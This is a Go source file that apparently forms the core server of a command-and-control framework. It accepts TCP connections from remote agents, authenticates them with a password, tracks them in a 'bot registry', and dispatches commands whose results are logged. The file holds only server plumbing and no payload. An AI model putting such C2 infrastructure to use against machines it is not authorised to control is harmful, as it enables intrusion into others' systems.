// ABOUTME: Server orchestrator that wires the listener, registry, sweeper, and dispatcher.
// ABOUTME: Accepts agent TCP connections and spawns one session goroutine per connection.

package server

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"sync"
	"time"

	"github.com/alzzmetth/Osxnt/internal/config"
	"github.com/alzzmetth/Osxnt/internal/dispatch"
	"github.com/alzzmetth/Osxnt/internal/monitor"
	"github.com/alzzmetth/Osxnt/internal/registry"
	"github.com/alzzmetth/Osxnt/internal/session"
	"github.com/alzzmetth/Osxnt/internal/store"
	"github.com/alzzmetth/Osxnt/internal/sweep"
)

// Server owns the agent listener and all core components. Sessions, the
// sweeper, and the optional HTTP stats surface all run under its lifecycle.
type Server struct {
	cfg        *config.Config
	registry   *registry.Registry
	dispatcher *dispatch.Dispatcher
	sweeper    *sweep.Sweeper
	monitor    *monitor.Monitor
	history    *store.HistoryStore
	logger     *slog.Logger

	ln         net.Listener
	httpServer *http.Server

	mu       sync.Mutex
	sessions map[*session.Session]struct{}
	wg       sync.WaitGroup
}

// New assembles a server from configuration. The history store is opened
// here if configured; pass an empty history path to run without persistence.
func New(cfg *config.Config, logger *slog.Logger) (*Server, error) {
	if logger == nil {
		logger = slog.Default()
	}

	reg := registry.New(logger.With("component", "registry"), cfg.Log.BufferSize)

	var history *store.HistoryStore
	if cfg.History.Path != "" {
		h, err := store.NewHistoryStore(cfg.History.Path, logger)
		if err != nil {
			return nil, fmt.Errorf("opening history store: %w", err)
		}
		history = h
	}

	disp := dispatch.New(reg, historyOrNil(history), logger)
	sweeper := sweep.New(reg, sweep.Config{
		Interval:            cfg.Agents.SweepInterval,
		InactiveThreshold:   cfg.Agents.InactiveThreshold,
		DisconnectThreshold: cfg.Agents.DisconnectThreshold,
	}, logger)

	return &Server{
		cfg:        cfg,
		registry:   reg,
		dispatcher: disp,
		sweeper:    sweeper,
		monitor:    monitor.New(reg, disp),
		history:    history,
		logger:     logger.With("component", "server"),
		sessions:   make(map[*session.Session]struct{}),
	}, nil
}

// historyOrNil converts a possibly-nil *HistoryStore into the dispatcher's
// interface without smuggling a typed nil into it.
func historyOrNil(h *store.HistoryStore) dispatch.ResultStore {
	if h == nil {
		return nil
	}
	return h
}

func disconnectRecorderOrNil(h *store.HistoryStore) session.DisconnectRecorder {
	if h == nil {
		return nil
	}
	return h
}

// Registry exposes the bot registry for consumers outside the core.
func (s *Server) Registry() *registry.Registry { return s.registry }

// Dispatcher exposes the command dispatcher for consumers outside the core.
func (s *Server) Dispatcher() *dispatch.Dispatcher { return s.dispatcher }

// Monitor exposes the read-only statistics surface.
func (s *Server) Monitor() *monitor.Monitor { return s.monitor }

// Addr returns the bound listener address, valid after Start.
func (s *Server) Addr() net.Addr {
	if s.ln == nil {
		return nil
	}
	return s.ln.Addr()
}

// Start binds the agent listener and launches the accept loop, the liveness
// sweeper, and the HTTP stats server. A bind failure is fatal: the error is
// returned and nothing is left running.
func (s *Server) Start(ctx context.Context) error {
	ln, err := net.Listen("tcp", s.cfg.Server.BindAddr)
	if err != nil {
		return fmt.Errorf("binding %s: %w", s.cfg.Server.BindAddr, err)
	}
	s.ln = ln
	s.logger.Info("C2 server listening", "addr", ln.Addr().String())
	s.registry.AppendLog(registry.LevelInfo, fmt.Sprintf("Server listening on %s", ln.Addr()))

	s.wg.Add(1)
	go func() {
		defer s.wg.Done()
		s.acceptLoop(ctx)
	}()

	s.wg.Add(1)
	go func() {
		defer s.wg.Done()
		s.sweeper.Run(ctx)
	}()

	if s.cfg.Server.HTTPAddr != "" {
		s.startHTTP()
	}
	return nil
}

// acceptLoop accepts agent connections until the listener closes. Transient
// accept failures are logged and accepting continues; each accepted
// connection gets its own session goroutine so accepts never block.
func (s *Server) acceptLoop(ctx context.Context) {
	for {
		conn, err := s.ln.Accept()
		if err != nil {
			if errors.Is(err, net.ErrClosed) {
				return
			}
			s.logger.Warn("accept failed", "error", err)
			continue
		}

		sess := session.New(session.Params{
			Conn:     conn,
			Registry: s.registry,
			Results:  s.dispatcher,
			History:  disconnectRecorderOrNil(s.history),
			Config: session.Config{
				Password:         s.cfg.Auth.Password,
				HandshakeTimeout: s.cfg.Agents.HandshakeTimeout,
				ReadTimeout:      s.cfg.Agents.ReadTimeout,
			},
			Logger: s.logger,
		})

		s.mu.Lock()
		s.sessions[sess] = struct{}{}
		s.mu.Unlock()

		s.wg.Add(1)
		go func() {
			defer s.wg.Done()
			defer func() {
				s.mu.Lock()
				delete(s.sessions, sess)
				s.mu.Unlock()
			}()
			if err := sess.Run(ctx); err != nil {
				s.logger.Debug("session ended", "error", err)
			}
		}()
	}
}

// Shutdown stops accepting, closes every live session, and waits for all
// goroutines to drain, bounded by ctx.
func (s *Server) Shutdown(ctx context.Context) error {
	if s.ln != nil {
		_ = s.ln.Close()
	}
	if s.httpServer != nil {
		_ = s.httpServer.Shutdown(ctx)
	}

	s.mu.Lock()
	open := make([]*session.Session, 0, len(s.sessions))
	for sess := range s.sessions {
		open = append(open, sess)
	}
	s.mu.Unlock()
	for _, sess := range open {
		_ = sess.Close()
	}

	done := make(chan struct{})
	go func() {
		s.wg.Wait()
		close(done)
	}()
	select {
	case <-done:
	case <-ctx.Done():
		return fmt.Errorf("shutdown timed out: %w", ctx.Err())
	}

	if s.history != nil {
		if err := s.history.Close(); err != nil {
			return fmt.Errorf("closing history store: %w", err)
		}
	}
	s.logger.Info("C2 server stopped")
	return nil
}

// Run starts the server and blocks until ctx is cancelled, then shuts down
// with a bounded grace period.
func (s *Server) Run(ctx context.Context) error {
	if err := s.Start(ctx); err != nil {
		return err
	}
	<-ctx.Done()

	shutdownCtx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	return s.Shutdown(shutdownCtx)
}
